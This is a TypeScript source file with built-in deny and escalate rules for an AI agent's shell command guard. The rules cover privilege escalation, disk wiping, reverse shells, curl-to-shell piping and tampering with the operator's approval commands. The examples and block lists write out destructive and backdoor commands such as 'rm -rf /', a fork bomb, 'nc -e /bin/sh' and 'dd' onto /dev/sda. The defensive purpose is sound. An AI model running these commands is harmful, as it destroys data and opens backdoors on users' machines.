/**
 * The command guard's built-in rules (docs/command-guard.md): what a shell line may not do under
 * any policy. They read the facts the shell analysis puts in each part's target (`program`,
 * `argv`, `wrappers`, `stdin_from`, `operands`, `env_names`, `dynamic`, `finding`) and the paths
 * of the filesystem intents it derives (redirects, copy destinations, secrets named as
 * arguments). Merged after the GTFOBins rules in the built-in layer; a policy replaces or removes
 * one by name (`enabled: false`), or decides otherwise with a rule of higher priority.
 *
 * Priorities: 950 for what the analysis could not see through (a finding), 760 for denials (above
 * the default policy's 700 rules, so a built-in escalation never masks their denial), 680 for
 * escalations (below them, above the GTFOBins rules at 650/640).
 * @module
 */

/** The label of this document in messages and `sources`. */
export const BUILTIN_COMMAND_RULES_LABEL = "<built-in command rules>";

/** Where this text is defined: the policy cache notices when it changes (an upgrade). */
export const BUILTIN_COMMAND_RULES_SOURCE: string = import.meta.url;

/**
 * A cheap pre-filter for a rule about some programs: `match.command` globs that hold for every
 * command line (`quoteArgv` of the argv) whose program is one of `names` (a name ending in `*` is
 * a prefix), so the rule's condition is compiled and run only for those. argv[0] is a bare name,
 * a path ending in it, or quoted (`'…'`) when it has other characters: all three are covered.
 * The condition still decides; the globs only skip what cannot match.
 */
function programs(...names: string[]): string {
  const globs = names.flatMap((name) =>
    name.endsWith("*") ? [name, `*/${name}`] : [name, `${name} *`, `*/${name}`, `*/${name} *`]
  );
  return JSON.stringify([...globs, "'*"]);
}

/** The built-in command-guard rules, as a policy document. */
export const BUILTIN_COMMAND_RULES_YAML = `policies:
  # --- What the analysis could not see through (one "finding" part per problem) -------------
  - name: deny-unreadable-shell
    priority: 950
    match: { domain: command }
    condition: "target.get('finding') in ('unparsable', 'too-long', 'too-deep', 'binary')"
    action: deny
    risk_level: critical
    audit: heavy
    reason: The command line cannot be read with certainty (unparsable, too long, too deeply nested or binary), so it is never run; rewrite it plainly
    examples:
      match: [{ target: { command: "echo 'x", argv: [], finding: unparsable } }]
      not_match: [{ target: { command: "eval x", argv: [], finding: eval } }, { target: { command: ls, argv: [ls] } }]

  - name: escalate-hidden-shell-code
    priority: 950
    match: { domain: command }
    condition: >-
      target.get('finding') and target.finding not in ('unparsable', 'too-long', 'too-deep', 'binary')
    action: escalate
    risk_level: high
    audit: heavy
    reason: Part of the command is only known when it runs (a computed command name, eval, an alias, a function or an interpreter string); a human decides, or spell the commands out
    examples:
      match: [{ target: { command: "eval x", argv: [], finding: eval } }, { target: { command: "$c", argv: [], finding: dynamic-command } }]
      not_match: [{ target: { command: ls, argv: [ls] } }]

  - name: deny-fork-bomb
    priority: 950
    match: { domain: command }
    condition: "target.get('finding') == 'function-definition' and (target.get('self_calls') or 0) >= 2"
    action: deny
    risk_level: critical
    audit: heavy
    reason: A function that runs itself more than once per call (a fork bomb) exhausts the machine
    examples:
      match: [{ target: { command: ":(){ :|:& };:", argv: [], finding: function-definition, function: ":", self_calls: 2 } }]
      not_match: [{ target: { command: "f(){ ls; }; f", argv: [], finding: function-definition, function: f, self_calls: 0 } }]

  # --- Denials --------------------------------------------------------------------------------
  - name: deny-wipe-root-or-home
    priority: 760
    match: { domain: command, command: ${programs("rm", "find", "shred", "wipe", "srm")} }
    condition: >-
      ((target.program == 'rm' and ('--recursive' in (target.argv or []) or
      any(a.startswith('-') and not a.startswith('--') and ('r' in a or 'R' in a) for a in (target.argv or [])[1:])))
      or (target.program == 'find' and ('-delete' in (target.argv or []) or
      (any(a in ('-exec', '-execdir', '-ok', '-okdir') for a in target.argv) and
      any(a in ('rm', 'shred') or a.endswith('/rm') for a in target.argv))))
      or target.program in ('shred', 'wipe', 'srm'))
      and any(o == '/' or dirname(o) == '/' or o in ('/home/*', '/Users/*') or (context.home and
      (o == context.home or o == context.home + '/*' or o == context.home + '/.*'))
      for o in (target.operands or []))
    action: deny
    risk_level: critical
    audit: heavy
    reason: Recursively deleting the root, a top-level directory or the home directory is never done by an agent
    examples:
      match:
        - { target: { command: "rm -rf /", argv: [rm, -rf, /], program: rm, operands: [/] } }
        - { target: { command: "rm -fr /*", argv: [rm, -fr, "/*"], program: rm, operands: ["/*"] } }
        - { target: { command: "rm --recursive /usr", argv: [rm, --recursive, /usr], program: rm, operands: [/usr] } }
        - { target: { command: "find / -delete", argv: [find, /, -delete], program: find, operands: [/] } }
      not_match:
        - { target: { command: "rm -rf dist", argv: [rm, -rf, dist], program: rm, operands: [/w/p/dist] } }
        - { target: { command: "rm -f /", argv: [rm, -f, /], program: rm, operands: [/] } }
        - { target: { command: ls /, argv: [ls, /], program: ls, operands: [/] } }

  - name: deny-privilege-escalation
    priority: 760
    match: { domain: command }
    condition: >-
      target.program in ('sudo', 'su', 'doas', 'pkexec', 'runuser', 'sudoedit', 'run0', 'setcap',
      'setpriv', 'chroot', 'nsenter', 'unshare', 'capsh')
      or any(w in ('sudo', 'su', 'doas', 'pkexec', 'runuser', 'run0', 'chroot', 'nsenter', 'unshare')
      for w in (target.wrappers or []))
      or (target.program == 'machinectl' and any(a in ('shell', 'login') for a in target.argv))
    action: deny
    risk_level: critical
    audit: heavy
    reason: Acting as another user (sudo, su, doas) or changing privileges is blocked; ask a human to run it
    examples:
      match:
        - { target: { command: "sudo ls", argv: [sudo, ls], program: sudo } }
        - { target: { command: "ls", argv: [ls], program: ls, wrappers: [sudo] } }
        - { target: { command: "su -c id", argv: [su, -c, id], program: su } }
        - { target: { command: "machinectl shell root@", argv: [machinectl, shell, root@], program: machinectl } }
      not_match:
        - { target: { command: ls, argv: [ls], program: ls, wrappers: [env, timeout] } }
        - { target: { command: "machinectl list", argv: [machinectl, list], program: machinectl } }

  # Approving, refusing, ending or re-zoning sessions, changing the policy and rewriting the
  # ledger are the operator's: an agent that runs them through a guarded layer approves itself.
  - name: deny-operator-commands
    priority: 770
    match: { domain: command }
    condition: >-
      target.program in ('wt', 'watchtower') and len(target.argv) > 1 and (
        target.argv[1] in ('approve', 'deny', 'clean', 'apply-profile', 'init', 'init-policy')
        or (len(target.argv) > 2 and target.argv[1] == 'session' and target.argv[2] in ('end', 'zone', 'start'))
        or (len(target.argv) > 2 and target.argv[1] == 'profile' and target.argv[2] == 'apply')
        or (len(target.argv) > 2 and target.argv[1] == 'policy' and target.argv[2] in ('init', 'pull', 'trust', 'keygen', 'sign'))
        or (target.argv[1] in ('verify', 'checkpoint') and '--repair' in target.argv)
        or (len(target.argv) > 2 and target.argv[1] == 'hook' and target.argv[2] in ('install', 'uninstall'))
        or (target.argv[1] == 'alert' and any(a == '--exec' or a.startswith('--exec=') for a in target.argv))
        or (target.argv[1] == 'checkpoint' and any(a.startswith('--publish') or a.startswith('--witness') for a in target.argv)))
    action: deny
    risk_level: critical
    audit: heavy
    reason: Approvals, sessions, the policy, the hooks and the ledger are the operator's (and wt alert --exec and wt checkpoint --publish-cmd run commands of their own); an agent cannot use them
    examples:
      match:
        - { target: { command: "wt approve wt-0123456789abcdef", argv: [wt, approve, wt-0123456789abcdef], program: wt } }
        - { target: { command: "wt session zone SAFE", argv: [wt, session, zone, SAFE], program: wt } }
        - { target: { command: "wt profile apply clawbot", argv: [wt, profile, apply, clawbot], program: wt } }
        - { target: { command: "wt policy trust add k+0+A", argv: [wt, policy, trust, add, k+0+A], program: wt } }
        - { target: { command: "wt policy pull p.bundle", argv: [wt, policy, pull, p.bundle], program: wt } }
        - { target: { command: "wt hook uninstall claude-code", argv: [wt, hook, uninstall, claude-code], program: wt } }
        - { target: { command: "wt alert --exec 'rm -rf ~'", argv: [wt, alert, --exec, "rm -rf ~"], program: wt } }
        - { target: { command: "wt checkpoint --publish-cmd 'sh x'", argv: [wt, checkpoint, --publish-cmd, "sh x"], program: wt } }
      not_match:
        - { target: { command: "wt checkpoint", argv: [wt, checkpoint], program: wt } }
        - { target: { command: "wt alert --once", argv: [wt, alert, --once], program: wt } }
        - { target: { command: "wt policy check", argv: [wt, policy, check], program: wt } }
        - { target: { command: "wt pending", argv: [wt, pending], program: wt } }
        - { target: { command: "wt check --shell ls", argv: [wt, check, --shell, ls], program: wt } }
        - { target: { command: "wt session show", argv: [wt, session, show], program: wt } }

  - name: deny-remote-code-execution
    priority: 760
    match: { domain: command, command: ${
  programs(
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "mksh",
    "ash",
    "csh",
    "tcsh",
    "fish",
    "busybox",
    "irb",
    "node",
    "nodejs",
    "deno",
    "bun",
    "tclsh",
    "wish",
    "expect",
    "pwsh",
    "powershell",
    "osascript",
    "Rscript",
    "julia",
    "source",
    ".",
    "eval",
    "exec",
    "env",
    "sudo",
    "doas",
    "su",
    "python*",
    "pypy*",
    "perl*",
    "ruby*",
    "php*",
    "lua*",
  )
} }
    condition: >-
      (target.program in ('sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'csh', 'tcsh', 'fish',
      'busybox', 'perl', 'ruby', 'irb', 'node', 'nodejs', 'deno', 'bun', 'php', 'lua', 'luajit',
      'tclsh', 'wish', 'expect', 'pwsh', 'powershell', 'osascript', 'Rscript', 'julia', 'source',
      '.', 'eval', 'exec', 'xargs', 'parallel', 'env', 'sudo', 'doas', 'su')
      or (target.program or '').startswith('python') or (target.program or '').startswith('pypy')
      or (target.program or '').startswith('perl') or (target.program or '').startswith('ruby')
      or (target.program or '').startswith('php') or (target.program or '').startswith('lua'))
      and any(s in ('curl', 'wget', 'fetch', 'aria2c', 'axel', 'lwp-request', 'lwp-download', 'GET',
      'http', 'https', 'xh', 'httpie', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'ftp', 'tftp',
      'sftp', 'scp', 'rsync', 'ssh', 'openssl', 'gh', 'git', 'base64', 'base32', 'basenc', 'xxd',
      'uudecode', 'gunzip', 'gzip', 'zcat', 'bunzip2', 'bzip2', 'bzcat', 'xz', 'unxz', 'xzcat',
      'zstd', 'unzstd', 'zstdcat', 'lzma', 'unlzma', 'brotli', 'openssl', 'gpg', 'rev', 'tr', 'od',
      'perl', 'python', 'python3', 'node', 'ruby', 'printf') for s in (target.stdin_from or []))
    action: deny
    risk_level: critical
    audit: heavy
    reason: Downloaded or decoded data is piped into an interpreter (curl | sh); download the file, read it, then run it
    examples:
      match:
        - { target: { command: sh, argv: [sh], program: sh, stdin_from: [curl] } }
        - { target: { command: "python3 -", argv: [python3, "-"], program: python3, stdin_from: [wget] } }
        - { target: { command: bash, argv: [bash], program: bash, stdin_from: [echo, base64] } }
      not_match:
        - { target: { command: "grep x", argv: [grep, x], program: grep, stdin_from: [curl] } }
        - { target: { command: bash, argv: [bash], program: bash, stdin_from: [heredoc] } }

  - name: deny-force-push-protected
    priority: 760
    match: { domain: command, command: ${programs("git")} }
    condition: >-
      target.program == 'git' and 'push' in (target.argv or []) and
      ('--mirror' in target.argv or
      ((any(a.startswith('--force') or a in ('--delete', '--prune') or (a.startswith('-') and not
      a.startswith('--') and ('f' in a or 'd' in a)) for a in target.argv[target.argv.index('push') + 1:])
      or any(r.startswith('+') or r.startswith(':') for r in target.argv[target.argv.index('push') + 1:]))
      and ('--all' in target.argv or any(r.split(':')[-1].lstrip('+').removeprefix('refs/heads/') in
      ('main', 'master', 'production', 'prod', 'trunk') or
      r.split(':')[-1].lstrip('+').removeprefix('refs/heads/').startswith('release/')
      for r in target.argv[target.argv.index('push') + 1:] if not r.startswith('-')))))
    action: deny
    risk_level: critical
    audit: heavy
    reason: Force-pushing to, or deleting, a protected branch (main, master, release/*, production) rewrites shared history; push a feature branch and open a pull request
    examples:
      match:
        - { target: { command: "git push --force origin main", argv: [git, push, --force, origin, main], program: git } }
        - { target: { command: "git push origin +master", argv: [git, push, origin, +master], program: git } }
        - { target: { command: "git push origin :main", argv: [git, push, origin, ":main"], program: git } }
        - { target: { command: "git push -f origin HEAD:release/1.2", argv: [git, push, -f, origin, "HEAD:release/1.2"], program: git } }
        - { target: { command: "git push --delete origin production", argv: [git, push, --delete, origin, production], program: git } }
        - { target: { command: "git push --mirror", argv: [git, push, --mirror], program: git } }
      not_match:
        - { target: { command: "git push origin main", argv: [git, push, origin, main], program: git } }
        - { target: { command: "git push -f origin feature/x", argv: [git, push, -f, origin, feature/x], program: git } }
        - { target: { command: "git push -u origin feature/main-page", argv: [git, push, -u, origin, feature/main-page], program: git } }

  - name: deny-unsafe-permissions
    priority: 760
    match: { domain: command, command: ${programs("chmod")} }
    condition: >-
      target.program == 'chmod' and any(fnmatch(m, '[0-7][0-7][2367]') or
      fnmatch(m, '[0-7][0-7][0-7][2367]') or fnmatch(m, '[2-7][0-7][0-7][0-7]') or
      fnmatch(m, '*[+=]*s*') or fnmatch(m, '*[oa]*[+=]*w*')
      for m in [a for a in (target.argv or [])[1:] if not a.startswith('-')][:1])
    action: deny
    risk_level: high
    audit: heavy
    reason: World-writable (777, o+w) or setuid/setgid (+s, 4755) permissions open the system to other users; use 755, 644 or u+x
    examples:
      match:
        - { target: { command: "chmod 777 x", argv: [chmod, "777", x], program: chmod } }
        - { target: { command: "chmod -R 0777 .", argv: [chmod, -R, "0777", .], program: chmod } }
        - { target: { command: "chmod u+s /bin/x", argv: [chmod, u+s, /bin/x], program: chmod } }
        - { target: { command: "chmod 4755 x", argv: [chmod, "4755", x], program: chmod } }
        - { target: { command: "chmod a+w x", argv: [chmod, a+w, x], program: chmod } }
      not_match:
        - { target: { command: "chmod +x run.sh", argv: [chmod, +x, run.sh], program: chmod } }
        - { target: { command: "chmod 755 bin", argv: [chmod, "755", bin], program: chmod } }
        - { target: { command: "chmod 600 key", argv: [chmod, "600", key], program: chmod } }
        - { target: { command: "chmod go-w x", argv: [chmod, go-w, x], program: chmod } }

  - name: deny-chown-root
    priority: 760
    match: { domain: command, command: ${programs("chown", "chgrp")} }
    condition: >-
      target.program in ('chown', 'chgrp') and any(o in ('root', '0', ':root', ':0', '.root') or
      o.startswith('root:') or o.startswith('root.') or o.startswith('0:')
      for o in [a for a in (target.argv or [])[1:] if not a.startswith('-')][:1])
    action: deny
    risk_level: high
    audit: heavy
    reason: Giving files to root is how a privilege backdoor is planted
    examples:
      match: [{ target: { command: "chown root:root x", argv: [chown, "root:root", x], program: chown } }]
      not_match: [{ target: { command: "chown me x", argv: [chown, me, x], program: chown } }]

  - name: deny-service-changes
    priority: 760
    match: { domain: command, command: ${
  programs(
    "systemctl",
    "service",
    "launchctl",
    "crontab",
    "update-rc.d",
    "chkconfig",
    "rc-update",
    "systemd-run",
    "at",
    "batch",
  )
} }
    condition: >-
      (target.program == 'systemctl' and any(a in ('enable', 'start', 'restart', 'reload',
      'reload-or-restart', 'try-restart', 'reenable', 'link', 'mask', 'unmask', 'edit', 'set-default',
      'isolate', 'daemon-reload', 'preset', 'stop', 'disable', 'kill', 'revert', 'set-property',
      'reboot', 'poweroff', 'halt', 'kexec', 'suspend', 'hibernate', 'emergency', 'rescue')
      for a in (target.argv or [])[1:]))
      or (target.program == 'service' and any(a in ('start', 'stop', 'restart', 'reload',
      'force-reload') for a in (target.argv or [])[1:]))
      or (target.program == 'launchctl' and any(a in ('load', 'unload', 'bootstrap', 'bootout',
      'enable', 'disable', 'kickstart', 'submit') for a in (target.argv or [])[1:]))
      or (target.program == 'crontab' and len(target.argv or []) > 1 and '-l' not in target.argv)
      or target.program in ('update-rc.d', 'chkconfig', 'rc-update', 'systemd-run', 'at', 'batch')
    action: deny
    risk_level: high
    audit: heavy
    reason: Starting, enabling or scheduling system services and jobs persists beyond the task; ask a human
    examples:
      match:
        - { target: { command: "systemctl enable x", argv: [systemctl, enable, x], program: systemctl } }
        - { target: { command: "systemctl --now start x", argv: [systemctl, --now, start, x], program: systemctl } }
        - { target: { command: "crontab job.txt", argv: [crontab, job.txt], program: crontab } }
      not_match:
        - { target: { command: "systemctl status x", argv: [systemctl, status, x], program: systemctl } }
        - { target: { command: "crontab -l", argv: [crontab, -l], program: crontab } }

  - name: deny-firewall-changes
    priority: 760
    match: { domain: command, command: ${
  programs(
    "iptables",
    "ip6tables",
    "iptables-restore",
    "ip6tables-restore",
    "iptables-legacy",
    "iptables-nft",
    "nft",
    "ufw",
    "firewall-cmd",
    "ebtables",
    "arptables",
    "pfctl",
    "ipset",
  )
} }
    condition: >-
      target.program in ('iptables', 'ip6tables', 'iptables-restore', 'ip6tables-restore',
      'iptables-legacy', 'iptables-nft', 'nft', 'ufw', 'firewall-cmd', 'ebtables', 'arptables',
      'pfctl', 'ipset')
    action: deny
    risk_level: high
    audit: heavy
    reason: Firewall rules are the machine's, not the agent's
    examples:
      match: [{ target: { command: "ufw disable", argv: [ufw, disable], program: ufw } }]

  - name: deny-account-changes
    priority: 760
    match: { domain: command, command: ${
  programs(
    "useradd",
    "usermod",
    "userdel",
    "adduser",
    "deluser",
    "addgroup",
    "delgroup",
    "groupadd",
    "groupmod",
    "groupdel",
    "gpasswd",
    "passwd",
    "chpasswd",
    "chage",
    "chsh",
    "chfn",
    "newusers",
    "vipw",
    "vigr",
    "pwconv",
    "grpconv",
    "visudo",
  )
} }
    condition: >-
      target.program in ('useradd', 'usermod', 'userdel', 'adduser', 'deluser', 'addgroup',
      'delgroup', 'groupadd', 'groupmod', 'groupdel', 'gpasswd', 'passwd', 'chpasswd', 'chage',
      'chsh', 'chfn', 'newusers', 'vipw', 'vigr', 'pwconv', 'grpconv', 'visudo')
    action: deny
    risk_level: critical
    audit: heavy
    reason: Creating or changing user accounts and passwords is blocked
    examples:
      match: [{ target: { command: "useradd x", argv: [useradd, x], program: useradd } }]

  - name: deny-mounts
    priority: 760
    match: { domain: command, command: ${
  programs("umount", "swapoff", "losetup", "mount", "swapon")
} }
    condition: >-
      target.program in ('umount', 'swapoff', 'losetup') or
      (target.program in ('mount', 'swapon') and len(target.argv or []) > 1)
    action: deny
    risk_level: high
    audit: heavy
    reason: Mounting and unmounting file systems is blocked
    examples:
      match: [{ target: { command: "mount /dev/sdb1 /mnt", argv: [mount, /dev/sdb1, /mnt], program: mount } }]
      not_match: [{ target: { command: mount, argv: [mount], program: mount } }]

  - name: deny-system-package-changes
    priority: 760
    match: { domain: command, command: ${
  programs(
    "apt",
    "apt-get",
    "aptitude",
    "yum",
    "dnf",
    "microdnf",
    "tdnf",
    "zypper",
    "apk",
    "pacman",
    "dpkg",
    "rpm",
    "snap",
    "flatpak",
    "pkg",
    "port",
    "opkg",
    "emerge",
    "xbps-install",
    "xbps-remove",
    "pkg_add",
    "pkg_delete",
    "uv",
    "pip*",
    "python*",
  )
} }
    condition: >-
      (target.program in ('apt', 'apt-get', 'aptitude') and any(a in ('install', 'reinstall',
      'remove', 'purge', 'upgrade', 'dist-upgrade', 'full-upgrade', 'autoremove', 'build-dep')
      for a in (target.argv or [])[1:]))
      or (target.program in ('yum', 'dnf', 'microdnf', 'tdnf', 'zypper') and any(a in ('install',
      'reinstall', 'remove', 'erase', 'update', 'upgrade', 'downgrade', 'groupinstall',
      'localinstall', 'in', 'rm', 'up', 'dup', 'dist-upgrade', 'patch') for a in (target.argv or [])[1:]))
      or (target.program == 'apk' and any(a in ('add', 'del', 'upgrade', 'fix') for a in (target.argv or [])[1:]))
      or (target.program == 'pacman' and any(a.startswith('-S') or a.startswith('-U') or
      a.startswith('-R') or a in ('--sync', '--upgrade', '--remove') for a in (target.argv or [])[1:]))
      or (target.program == 'dpkg' and any(a in ('-i', '--install', '-r', '--remove', '-P',
      '--purge', '--unpack', '--configure') for a in (target.argv or [])[1:]))
      or (target.program == 'rpm' and any(a in ('--install', '--upgrade', '--freshen', '--erase') or
      (a.startswith('-') and not a.startswith('--') and ('i' in a or 'U' in a or 'F' in a or 'e' in a))
      for a in (target.argv or [])[1:]))
      or (target.program in ('snap', 'flatpak', 'pkg', 'port', 'opkg') and any(a in ('install',
      'remove', 'uninstall', 'refresh', 'update', 'upgrade', 'delete') for a in (target.argv or [])[1:]))
      or target.program in ('emerge', 'xbps-install', 'xbps-remove', 'pkg_add', 'pkg_delete')
      or ('install' in (target.argv or []) and ((target.program or '').startswith('pip') or
      target.program == 'uv' or 'pip' in target.argv) and any(a in ('--system',
      '--break-system-packages') or a.startswith('--root') for a in target.argv))
    action: deny
    risk_level: high
    audit: heavy
    reason: Installing or removing system packages changes the machine for everyone; use the project's own dependencies (npm install, pip in a virtualenv)
    examples:
      match:
        - { target: { command: "apt-get install -y x", argv: [apt-get, install, -y, x], program: apt-get } }
        - { target: { command: "dnf install x", argv: [dnf, install, x], program: dnf } }
        - { target: { command: "pip install --break-system-packages x", argv: [pip, install, --break-system-packages, x], program: pip } }
        - { target: { command: "python3 -m pip install --system x", argv: [python3, -m, pip, install, --system, x], program: python3 } }
      not_match:
        - { target: { command: "apt list --installed", argv: [apt, list, --installed], program: apt } }
        - { target: { command: "pip install -r requirements.txt", argv: [pip, install, -r, requirements.txt], program: pip } }
        - { target: { command: "npm install", argv: [npm, install], program: npm } }

  - name: deny-disk-destruction
    priority: 760
    match: { domain: command, command: ${
  programs(
    "mkfs*",
    "mke2fs",
    "mkswap",
    "wipefs",
    "fdisk",
    "sfdisk",
    "cfdisk",
    "gdisk",
    "sgdisk",
    "parted",
    "blkdiscard",
    "cryptsetup",
    "pvcreate",
    "pvremove",
    "vgremove",
    "lvremove",
    "zpool",
    "badblocks",
    "dd",
    "shred",
    "wipe",
  )
} }
    condition: >-
      (target.program or '').startswith('mkfs') or target.program in ('mke2fs', 'mkswap', 'wipefs',
      'fdisk', 'sfdisk', 'cfdisk', 'gdisk', 'sgdisk', 'parted', 'blkdiscard', 'cryptsetup',
      'pvcreate', 'pvremove', 'vgremove', 'lvremove', 'zpool', 'badblocks')
      or (target.program == 'dd' and any(a.startswith('of=/dev/') and a not in ('of=/dev/null',
      'of=/dev/stdout', 'of=/dev/stderr') for a in (target.argv or [])[1:]))
      or (target.program in ('shred', 'wipe') and any(o.startswith('/dev/') for o in (target.operands or [])))
    action: deny
    risk_level: critical
    audit: heavy
    reason: Formatting, partitioning or overwriting disks destroys data
    examples:
      match:
        - { target: { command: "mkfs.ext4 /dev/sda1", argv: [mkfs.ext4, /dev/sda1], program: mkfs.ext4 } }
        - { target: { command: "dd if=/dev/zero of=/dev/sda", argv: [dd, if=/dev/zero, of=/dev/sda], program: dd } }
      not_match: [{ target: { command: "dd if=a of=b", argv: [dd, if=a, of=b], program: dd } }]

  - name: deny-kernel-changes
    priority: 760
    match: { domain: command, command: ${
  programs("insmod", "rmmod", "modprobe", "kexec", "depmod", "sysctl")
} }
    condition: >-
      target.program in ('insmod', 'rmmod', 'modprobe', 'kexec', 'depmod')
      or (target.program == 'sysctl' and any(a in ('-w', '-p', '--write', '--load', '--system') or
      ('=' in a and not a.startswith('-')) for a in (target.argv or [])[1:]))
    action: deny
    risk_level: critical
    audit: heavy
    reason: Loading kernel modules or changing kernel settings is blocked
    examples:
      match: [{ target: { command: "sysctl -w x=1", argv: [sysctl, -w, x=1], program: sysctl } }]
      not_match: [{ target: { command: "sysctl -a", argv: [sysctl, -a], program: sysctl } }]

  - name: deny-power-changes
    priority: 760
    match: { domain: command, command: ${
  programs("reboot", "shutdown", "halt", "poweroff", "init", "telinit")
} }
    condition: >-
      target.program in ('reboot', 'shutdown', 'halt', 'poweroff')
      or (target.program in ('init', 'telinit') and any(a in ('0', '1', '6', 's', 'S')
      for a in (target.argv or [])[1:]))
    action: deny
    risk_level: high
    audit: heavy
    reason: Rebooting or halting the machine is blocked
    examples:
      match: [{ target: { command: "shutdown -h now", argv: [shutdown, -h, now], program: shutdown } }]

  - name: deny-reverse-shells
    priority: 760
    match: { domain: command, command: ${
  programs("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat")
} }
    condition: >-
      (target.program in ('nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd') and
      any(a.startswith('-e') or a.startswith('-c') or a in ('--exec', '--sh-exec', '--lua-exec')
      for a in (target.argv or [])[1:]))
      or (target.program == 'socat' and any('exec:' in a.lower() or 'system:' in a.lower()
      for a in (target.argv or [])[1:]))
    action: deny
    risk_level: critical
    audit: heavy
    reason: Serving a shell over the network (nc -e, socat exec:) is a backdoor
    examples:
      match: [{ target: { command: "nc -e /bin/sh x 1", argv: [nc, -e, /bin/sh, x, "1"], program: nc } }]
      not_match: [{ target: { command: "nc -z x 80", argv: [nc, -z, x, "80"], program: nc } }]

  - name: deny-device-writes
    priority: 760
    match:
      domain: filesystem
      operation: [write, append, create, copy, move, link, delete, truncate]
      path: ["/dev/sd*", "/dev/hd*", "/dev/vd*", "/dev/xvd*", "/dev/nvme*", "/dev/mmcblk*",
             "/dev/loop*", "/dev/dm-*", "/dev/md*", "/dev/sr*", "/dev/mapper/**", "/dev/disk/**",
             "/dev/mem", "/dev/kmem", "/dev/port"]
    action: deny
    risk_level: critical
    audit: heavy
    reason: Writing to a block device or kernel memory destroys data
    examples:
      match: [{ operation: write, target: { path: /dev/sda } }, { operation: write, target: { path: /dev/nvme0n1p1 } }]
      not_match: [{ operation: write, target: { path: /dev/null } }, { operation: read, target: { path: /dev/sda } }]

  - name: deny-persistence-writes
    priority: 760
    match:
      domain: filesystem
      operation: [write, append, create, copy, move, link, delete, chmod, chown, mkdir, touch, truncate]
      path: ["/etc/**", "/usr/lib/systemd/**", "/lib/systemd/**", "/usr/local/lib/systemd/**",
             "/var/spool/cron/**", "/var/spool/at/**", "/var/spool/anacron/**"]
    action: deny
    risk_level: high
    audit: heavy
    reason: System configuration, services and cron jobs are not for agents to change
    examples:
      match: [{ operation: write, target: { path: /etc/hosts } }, { operation: write, target: { path: /var/spool/cron/crontabs/root } }]
      not_match: [{ operation: read, target: { path: /etc/hosts } }, { operation: write, target: { path: /tmp/etc/x } }]

  - name: deny-network-redirects
    priority: 760
    match: { domain: filesystem, path: ["/dev/tcp/**", "/dev/udp/**"] }
    action: deny
    risk_level: critical
    audit: heavy
    reason: Redirecting to /dev/tcp or /dev/udp opens a raw network connection from the shell (a reverse shell)
    examples:
      match: [{ operation: write, target: { path: /dev/tcp/10.0.0.1/4444 } }]

  # --- Escalations ----------------------------------------------------------------------------
  - name: escalate-force-push
    priority: 680
    match: { domain: command, command: ${programs("git")} }
    condition: >-
      target.program == 'git' and 'push' in (target.argv or []) and
      (any(a.startswith('--force') or a in ('--delete', '--prune', '--mirror') or (a.startswith('-')
      and not a.startswith('--') and ('f' in a or 'd' in a)) for a in target.argv[target.argv.index('push') + 1:])
      or any(r.startswith('+') or r.startswith(':') for r in target.argv[target.argv.index('push') + 1:]))
    action: escalate
    risk_level: high
    reason: A force push or remote branch deletion rewrites shared history; a human decides
    examples:
      match: [{ target: { command: "git push -f", argv: [git, push, -f], program: git } }]
      not_match: [{ target: { command: "git push origin feature/x", argv: [git, push, origin, feature/x], program: git } }]

  - name: escalate-loader-environment
    priority: 680
    match: { domain: command }
    condition: >-
      any(n in ('LD_PRELOAD', 'LD_LIBRARY_PATH', 'LD_AUDIT', 'DYLD_INSERT_LIBRARIES',
      'DYLD_LIBRARY_PATH', 'BASH_ENV', 'ENV', 'PROMPT_COMMAND') for n in (target.env_names or []))
      or (target.program in ('export', 'declare', 'typeset', 'readonly', 'local', 'set', 'setenv') and
      any(a.split('=')[0] in ('LD_PRELOAD', 'LD_LIBRARY_PATH', 'LD_AUDIT', 'DYLD_INSERT_LIBRARIES',
      'DYLD_LIBRARY_PATH', 'BASH_ENV', 'ENV', 'PROMPT_COMMAND') for a in (target.argv or [])[1:]))
      or any(e.startswith('PATH=') and ('/tmp' in e or '/dev/shm' in e or '/var/tmp' in e)
      for e in (target.env or []))
    action: escalate
    risk_level: high
    reason: Setting the loader or shell start-up environment (LD_PRELOAD, BASH_ENV, PATH into /tmp) changes what every later program runs; a human decides
    examples:
      match:
        - { target: { command: ls, argv: [ls], program: ls, env_names: [LD_PRELOAD] } }
        - { target: { command: "export LD_PRELOAD=/tmp/x.so", argv: [export, LD_PRELOAD=/tmp/x.so], program: export } }
      not_match: [{ target: { command: "npm test", argv: [npm, test], program: npm, env_names: [NODE_ENV] } }]

  - name: escalate-global-package-installs
    priority: 680
    match: { domain: command, command: ${
  programs("npm", "pnpm", "cnpm", "bun", "yarn", "brew", "gem")
} }
    condition: >-
      (target.program in ('npm', 'pnpm', 'cnpm', 'bun') and any(a in ('-g', '--global',
      '--location=global') for a in (target.argv or [])[1:]) and any(a in ('install', 'i', 'add',
      'update', 'up', 'uninstall', 'remove', 'rm', 'un', 'link') for a in (target.argv or [])[1:]))
      or (target.program == 'yarn' and 'global' in (target.argv or [])[1:3])
      or (target.program == 'brew' and any(a in ('install', 'reinstall', 'uninstall', 'remove',
      'upgrade', 'tap', 'link') for a in (target.argv or [])[1:]))
      or (target.program == 'gem' and 'install' in (target.argv or []) and '--user-install' not in target.argv)
    action: escalate
    risk_level: medium
    reason: Installing packages globally changes the user's tools outside the project; a human decides
    examples:
      match: [{ target: { command: "npm install -g x", argv: [npm, install, -g, x], program: npm } }]
      not_match: [{ target: { command: "npm install -D x", argv: [npm, install, -D, x], program: npm } }]

  - name: escalate-privileged-containers
    priority: 680
    match: { domain: command, command: ${programs("docker", "podman", "nerdctl")} }
    condition: >-
      target.program in ('docker', 'podman', 'nerdctl') and any(a in ('--privileged', '--pid=host',
      '--net=host', '--network=host', '--ipc=host', '--userns=host', '--uts=host') or
      a.startswith('--cap-add') or a.startswith('/:') or a.startswith('--volume=/:') or
      a.startswith('-v/:') or 'docker.sock' in a or 'source=/,' in a or a.endswith('src=/')
      for a in (target.argv or [])[1:])
    action: escalate
    risk_level: high
    reason: A privileged container, or one with the host's root or Docker socket mounted, is root on the host; a human decides
    examples:
      match:
        - { target: { command: "docker run --privileged x", argv: [docker, run, --privileged, x], program: docker } }
        - { target: { command: "docker run -v /:/host x", argv: [docker, run, -v, "/:/host", x], program: docker } }
